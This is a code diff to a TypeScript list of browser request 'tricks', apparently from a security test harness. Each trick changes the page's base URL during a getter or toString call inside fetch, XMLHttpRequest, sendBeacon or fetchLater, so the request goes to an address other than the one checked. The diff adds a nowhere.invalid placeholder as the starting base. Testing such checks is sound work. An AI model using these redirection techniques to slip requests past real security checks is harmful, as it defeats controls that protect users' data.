@@ -3,24 +3,29 @@ import type { Kit, Trick } from "../trick";
 
 /** Relative to the page's base, wherever that is when it is read. */
 const HERE = "?now";
+/** What is sent there arrives at nobody's. */
+const NOWHERE = "https://nowhere.invalid/";
 
 export const LATE: readonly Trick[] = [
   {
     name: "base-moved-fetch",
     about: "Moves the page's base to the prompt address while the browser reads fetch's options.",
-    send: ({ prompt, post }) =>
-      fetch(HERE, {
+    send({ prompt, post }) {
+      moveBase(NOWHERE);
+      return fetch(HERE, {
         ...post(),
         get keepalive() {
           moveBase(prompt);
           return false;
         },
-      }),
+      });
+    },
   },
   {
     name: "base-moved-xhr",
     about: "Moves the base while the browser reads the user's name for an XMLHttpRequest.",
     async send({ prompt, body, wait }) {
+      moveBase(NOWHERE);
       const xhr = new XMLHttpRequest();
       const user = { toString: () => (moveBase(prompt), "") };
       xhr.open("POST", HERE, true, user as unknown as string);
@@ -32,6 +37,7 @@ export const LATE: readonly Trick[] = [
     name: "base-moved-beacon",
     about: "Moves the base while the browser turns a beacon's body into text.",
     send({ prompt, body }) {
+      moveBase(NOWHERE);
       const words = { toString: () => (moveBase(prompt), body()) };
       navigator.sendBeacon(HERE, words as unknown as string);
     },
@@ -54,7 +60,7 @@ export const LATE: readonly Trick[] = [
       const inner = await frame((element) => (element.src = file("blank.html")));
       const later = (inner.contentWindow as unknown as Record<string, unknown>)["fetchLater"];
       let asked = 0;
-      const url = { toString: () => (asked++ === 0 ? "/t" : prompt) };
+      const url = { toString: () => (asked++ === 0 ? NOWHERE : prompt) };
       (later as (url: unknown, init: RequestInit) => void)(url, post());
       inner.remove();
     },
